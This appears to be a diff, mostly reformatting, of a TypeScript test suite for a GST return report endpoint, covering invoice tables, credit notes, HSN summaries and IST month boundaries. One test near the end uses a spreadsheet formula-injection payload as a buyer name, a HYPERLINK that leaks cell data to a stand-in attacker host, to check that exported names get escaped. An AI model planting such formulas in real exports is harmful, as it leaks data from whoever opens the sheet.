@@ -20,7 +20,8 @@ const gstin = (first14: string) => first14 + gstinCheckCharacter(first14);
 const BUYER = { gstin: gstin("29AAGCR4375J1Z"), name: "Rao Office Interiors LLP" };
 
 type Sheet = { key: string; columns: string[]; rows: (string | number)[][]; totals: SheetTotal[] };
-const taxable = (lines: TaxedLine[], rate?: number) => sumTaxedLines(lines.filter((line) => rate === undefined || line.gstRate === rate)).taxablePaise;
+const taxable = (lines: TaxedLine[], rate?: number) =>
+  sumTaxedLines(lines.filter((line) => rate === undefined || line.gstRate === rate)).taxablePaise;
 
 let september: IssuedInvoice;
 let b2b: IssuedInvoice;
@@ -39,7 +40,11 @@ beforeAll(async () => {
   token = (await signedInStaff(api, "operations")).token;
   customerId = (await api.signIn()).customerId;
   // The last minute of September in India (already 1 October nowhere): not October's.
-  september = await issueInvoice(api, customerId, { at: ist("2026-09-30T23:59:00"), stateCode: "27", lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(20_000), quantity: 1 }] });
+  september = await issueInvoice(api, customerId, {
+    at: ist("2026-09-30T23:59:00"),
+    stateCode: "27",
+    lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(20_000), quantity: 1 }],
+  });
   // The first minute of October in India, still 30 September in UTC: October's.
   b2b = await issueInvoice(api, customerId, {
     at: ist("2026-10-01T00:00:00"),
@@ -50,8 +55,17 @@ beforeAll(async () => {
       { hsnCode: "4421", gstRate: 12, grossPaise: rs(2_000), quantity: 2 },
     ],
   });
-  intra = await issueInvoice(api, customerId, { at: ist("2026-10-05T11:00:00"), stateCode: "07", discountPaise: rs(1_000), lines: [{ hsnCode: "9403", gstRate: 18, grossPaise: rs(30_000), quantity: 3 }] });
-  inter = await issueInvoice(api, customerId, { at: ist("2026-10-09T15:30:00"), stateCode: "27", lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(60_000), quantity: 2 }] });
+  intra = await issueInvoice(api, customerId, {
+    at: ist("2026-10-05T11:00:00"),
+    stateCode: "07",
+    discountPaise: rs(1_000),
+    lines: [{ hsnCode: "9403", gstRate: 18, grossPaise: rs(30_000), quantity: 3 }],
+  });
+  inter = await issueInvoice(api, customerId, {
+    at: ist("2026-10-09T15:30:00"),
+    stateCode: "27",
+    lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(60_000), quantity: 2 }],
+  });
   large = await issueInvoice(api, customerId, {
     at: ist("2026-10-12T10:00:00"),
     stateCode: "33",
@@ -61,13 +75,21 @@ beforeAll(async () => {
     ],
   });
   // Over a lakh but within Delhi: B2C large is inter-state only.
-  intraAboveLakh = await issueInvoice(api, customerId, { at: ist("2026-10-20T09:00:00"), stateCode: "07", lines: [{ hsnCode: "9403", gstRate: 18, grossPaise: rs(1_20_000), quantity: 1 }] });
+  intraAboveLakh = await issueInvoice(api, customerId, {
+    at: ist("2026-10-20T09:00:00"),
+    stateCode: "07",
+    lines: [{ hsnCode: "9403", gstRate: 18, grossPaise: rs(1_20_000), quantity: 1 }],
+  });
   cdnr = await issueCreditNote(api, b2b, rs(5_000), ist("2026-10-21T12:00:00"));
   cdnur = await issueCreditNote(api, large, rs(10_000), ist("2026-10-22T12:00:00"));
   // A note in October against September's B2C small invoice lowers October's B2C others.
   b2csNote = await issueCreditNote(api, september, rs(6_000), ist("2026-10-23T12:00:00"));
   // Midnight of 1 November in India is still 31 October in UTC: November's.
-  await issueInvoice(api, customerId, { at: ist("2026-11-01T00:00:00"), stateCode: "27", lines: [{ hsnCode: "9401", gstRate: 28, grossPaise: rs(9_999), quantity: 1 }] });
+  await issueInvoice(api, customerId, {
+    at: ist("2026-11-01T00:00:00"),
+    stateCode: "27",
+    lines: [{ hsnCode: "9401", gstRate: 28, grossPaise: rs(9_999), quantity: 1 }],
+  });
 
   const res = await api.get("/admin/reports/gst?month=2026-10", token);
   expect(res.status).toBe(200);
@@ -75,7 +97,6 @@ beforeAll(async () => {
   sheets = Object.fromEntries(report.sheets.map((sheet) => [sheet.key, sheet]));
 });
 afterAll(() => api.close());
-
 
 describe("GET /admin/reports/gst", () => {
   it("counts October's documents by India's month, leaving out the last minute of September and the first of November", () => {
@@ -91,8 +112,33 @@ describe("GET /admin/reports/gst", () => {
   });
 
   it("lists the registered buyer's invoice in b2b, a row per rate", () => {
-    expect(sheets.b2b.columns).toEqual(["GSTIN/UIN of Recipient", "Receiver Name", "Invoice Number", "Invoice date", "Invoice Value", "Place Of Supply", "Reverse Charge", "Applicable % of Tax Rate", "Invoice Type", "E-Commerce GSTIN", "Rate", "Taxable Value", "Cess Amount"]);
-    const head = [BUYER.gstin, BUYER.name, b2b.number, "01-Oct-2026", "47000.00", "29-Karnataka", "N", "", "Regular B2B", ""];
+    expect(sheets.b2b.columns).toEqual([
+      "GSTIN/UIN of Recipient",
+      "Receiver Name",
+      "Invoice Number",
+      "Invoice date",
+      "Invoice Value",
+      "Place Of Supply",
+      "Reverse Charge",
+      "Applicable % of Tax Rate",
+      "Invoice Type",
+      "E-Commerce GSTIN",
+      "Rate",
+      "Taxable Value",
+      "Cess Amount",
+    ]);
+    const head = [
+      BUYER.gstin,
+      BUYER.name,
+      b2b.number,
+      "01-Oct-2026",
+      "47000.00",
+      "29-Karnataka",
+      "N",
+      "",
+      "Regular B2B",
+      "",
+    ];
     expect(sheets.b2b.rows).toEqual([
       [...head, 12, rupeesText(taxable(b2b.lines, 12)), ""],
       [...head, 18, rupeesText(taxable(b2b.lines, 18)), ""],
@@ -101,7 +147,9 @@ describe("GET /admin/reports/gst", () => {
   });
 
   it("lists the inter-state invoice over Rs 1 lakh to an unregistered buyer in b2cl, and nothing else", () => {
-    expect(sheets.b2cl.rows).toEqual([[large.number, "12-Oct-2026", "150000.00", "33-Tamil Nadu", "", 18, rupeesText(taxable(large.lines)), "", ""]]);
+    expect(sheets.b2cl.rows).toEqual([
+      [large.number, "12-Oct-2026", "150000.00", "33-Tamil Nadu", "", 18, rupeesText(taxable(large.lines)), "", ""],
+    ]);
   });
 
   it("sums the other B2C invoices by place of supply and rate, less the credit notes against them", () => {
@@ -115,10 +163,51 @@ describe("GET /admin/reports/gst", () => {
 
   it("puts the registered buyer's credit note in cdnr and the B2C large one's in cdnur", () => {
     expect(sheets.cdnr.rows).toEqual([
-      [BUYER.gstin, BUYER.name, cdnr.number, "21-Oct-2026", "C", "29-Karnataka", "N", "Regular B2B", "5000.00", "", 12, rupeesText(taxable(cdnr.lines, 12)), ""],
-      [BUYER.gstin, BUYER.name, cdnr.number, "21-Oct-2026", "C", "29-Karnataka", "N", "Regular B2B", "5000.00", "", 18, rupeesText(taxable(cdnr.lines, 18)), ""],
+      [
+        BUYER.gstin,
+        BUYER.name,
+        cdnr.number,
+        "21-Oct-2026",
+        "C",
+        "29-Karnataka",
+        "N",
+        "Regular B2B",
+        "5000.00",
+        "",
+        12,
+        rupeesText(taxable(cdnr.lines, 12)),
+        "",
+      ],
+      [
+        BUYER.gstin,
+        BUYER.name,
+        cdnr.number,
+        "21-Oct-2026",
+        "C",
+        "29-Karnataka",
+        "N",
+        "Regular B2B",
+        "5000.00",
+        "",
+        18,
+        rupeesText(taxable(cdnr.lines, 18)),
+        "",
+      ],
     ]);
-    expect(sheets.cdnur.rows).toEqual([["B2CL", cdnur.number, "22-Oct-2026", "C", "33-Tamil Nadu", "10000.00", "", 18, rupeesText(taxable(cdnur.lines)), ""]]);
+    expect(sheets.cdnur.rows).toEqual([
+      [
+        "B2CL",
+        cdnur.number,
+        "22-Oct-2026",
+        "C",
+        "33-Tamil Nadu",
+        "10000.00",
+        "",
+        18,
+        rupeesText(taxable(cdnur.lines)),
+        "",
+      ],
+    ]);
   });
 
   it("summarises by HSN and rate, net of credit notes, in a B2B tab and a B2C tab", () => {
@@ -126,9 +215,21 @@ describe("GET /admin/reports/gst", () => {
     const net = (plus: TaxedLine[], minus: TaxedLine[]) => {
       const p = sumTaxedLines(plus);
       const m = sumTaxedLines(minus);
-      return [p.totalPaise - m.totalPaise, p.taxablePaise - m.taxablePaise, p.igstPaise - m.igstPaise, p.cgstPaise - m.cgstPaise, p.sgstPaise - m.sgstPaise].map(rupeesText);
+      return [
+        p.totalPaise - m.totalPaise,
+        p.taxablePaise - m.taxablePaise,
+        p.igstPaise - m.igstPaise,
+        p.cgstPaise - m.cgstPaise,
+        p.sgstPaise - m.sgstPaise,
+      ].map(rupeesText);
     };
-    const row = (hsn: string, uqc: string, quantity: number, rate: number, [total, taxableValue, igst, cgst, sgst]: string[]) => [hsn, "", uqc, quantity, total, rate, taxableValue, igst, cgst, sgst, ""];
+    const row = (
+      hsn: string,
+      uqc: string,
+      quantity: number,
+      rate: number,
+      [total, taxableValue, igst, cgst, sgst]: string[],
+    ) => [hsn, "", uqc, quantity, total, rate, taxableValue, igst, cgst, sgst, ""];
     expect(sheets.hsn_b2b.rows).toEqual([
       row("4421", "NOS-NUMBERS", 2, 12, net([line(b2b, 1)], [line(cdnr, 1)])),
       row("9401", "NOS-NUMBERS", 1, 18, net([line(b2b, 0)], [line(cdnr, 0)])),
@@ -170,11 +271,19 @@ describe("GET /admin/reports/gst", () => {
 
   it("has the totals a return needs", () => {
     const totals = (key: string) => Object.fromEntries(sheets[key].totals.map((total) => [total.label, total.value]));
-    expect(totals("b2b")).toEqual({ Recipients: 1, Invoices: 1, "Invoice value": "47000.00", "Taxable value": rupeesText(taxable(b2b.lines)) });
+    expect(totals("b2b")).toEqual({
+      Recipients: 1,
+      Invoices: 1,
+      "Invoice value": "47000.00",
+      "Taxable value": rupeesText(taxable(b2b.lines)),
+    });
     expect(totals("b2cl")).toMatchObject({ Invoices: 1, "Invoice value": "150000.00" });
     expect(totals("docs")).toEqual({ Documents: 8, Cancelled: 0 });
-    const allTaxable = [b2b, intra, inter, large, intraAboveLakh].reduce((a, invoice) => a + taxable(invoice.lines), 0) - [cdnr, cdnur, b2csNote].reduce((a, note) => a + taxable(note.lines), 0);
-    const hsnTaxable = Number(totals("hsn_b2b")["Taxable value"]) * 100 + Number(totals("hsn_b2c")["Taxable value"]) * 100;
+    const allTaxable =
+      [b2b, intra, inter, large, intraAboveLakh].reduce((a, invoice) => a + taxable(invoice.lines), 0) -
+      [cdnr, cdnur, b2csNote].reduce((a, note) => a + taxable(note.lines), 0);
+    const hsnTaxable =
+      Number(totals("hsn_b2b")["Taxable value"]) * 100 + Number(totals("hsn_b2c")["Taxable value"]) * 100;
     expect(Math.round(hsnTaxable)).toBe(allTaxable);
   });
 
@@ -202,7 +311,9 @@ describe("the demo shop's filed month", () => {
     try {
       await seedDemoShop(demo.db);
       const res = await demo.get("/admin/reports/gst?month=2026-03", (await signedInStaff(demo, "owner")).token);
-      const demoSheets: Record<string, Sheet> = Object.fromEntries((res.json.body.sheets as Sheet[]).map((sheet) => [sheet.key, sheet]));
+      const demoSheets: Record<string, Sheet> = Object.fromEntries(
+        (res.json.body.sheets as Sheet[]).map((sheet) => [sheet.key, sheet]),
+      );
       expect(new Set(demoSheets.b2b.rows.map((row) => row[2]))).toEqual(new Set(["WN/25-26/000001"]));
       expect(demoSheets.b2cl.rows.map((row) => row[0])).toEqual(["WN/25-26/000004"]);
       expect(demoSheets.b2cs.rows.map((row) => row[1])).toEqual(["07-Delhi", "27-Maharashtra"]);
@@ -237,15 +348,30 @@ describe("which table an invoice goes to", () => {
 
   it("never makes an intra-state sale or a registered buyer's invoice B2C large", () => {
     expect(invoiceTable(invoice("2026-10-01T10:00:00", rs(5_00_000), { supplyType: "intra" }))).toBe("b2cs");
-    expect(invoiceTable(invoice("2026-10-01T10:00:00", rs(5_00_000), { buyer: { ...BUYER, address: "", state: "Karnataka", stateCode: "29" } }))).toBe("b2b");
+    expect(
+      invoiceTable(
+        invoice("2026-10-01T10:00:00", rs(5_00_000), {
+          buyer: { ...BUYER, address: "", state: "Karnataka", stateCode: "29" },
+        }),
+      ),
+    ).toBe("b2b");
   });
 });
 
 describe("a sheet opened in a spreadsheet", () => {
   it("writes a buyer's name that looks like a formula behind an apostrophe, and a negative value as the number it is", async () => {
     const name = `=HYPERLINK("http://evil.example/?leak="&A2,"Open")`;
-    await issueInvoice(api, customerId, { at: ist("2027-02-10T12:00:00"), stateCode: "29", buyer: { gstin: BUYER.gstin, name }, lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(10_000), quantity: 1 }] });
-    const small = await issueInvoice(api, customerId, { at: ist("2027-02-11T12:00:00"), stateCode: "27", lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(5_000), quantity: 1 }] });
+    await issueInvoice(api, customerId, {
+      at: ist("2027-02-10T12:00:00"),
+      stateCode: "29",
+      buyer: { gstin: BUYER.gstin, name },
+      lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(10_000), quantity: 1 }],
+    });
+    const small = await issueInvoice(api, customerId, {
+      at: ist("2027-02-11T12:00:00"),
+      stateCode: "27",
+      lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(5_000), quantity: 1 }],
+    });
     // March's only document is a note against February's sale: March's B2C others go below zero.
     await issueCreditNote(api, small, rs(1_180), ist("2027-03-02T12:00:00"));
 
